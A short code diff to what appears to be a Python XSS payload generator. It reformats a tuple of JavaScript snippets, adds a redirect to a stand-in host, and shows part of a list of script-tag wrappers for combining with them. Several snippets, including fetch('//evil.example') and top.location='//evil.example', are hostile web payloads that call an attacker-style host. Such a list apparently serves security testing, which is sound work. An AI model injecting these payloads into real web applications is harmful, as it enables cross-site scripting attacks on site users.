@@ -4,7 +4,14 @@ from __future__ import annotations
 
 from itertools import product
 
-SCRIPTS = ("alert(1)", "confirm`1`", "document.title='owned'", "fetch('//evil.example')", "parent.postMessage(1)")
+SCRIPTS = (
+    "alert(1)",
+    "confirm`1`",
+    "document.title='owned'",
+    "fetch('//evil.example')",
+    "parent.postMessage(1)",
+    "top.location='//evil.example'",
+)
 MARKUP = (
     "<script>{}</script>",
     "</script><script>{}</script>",
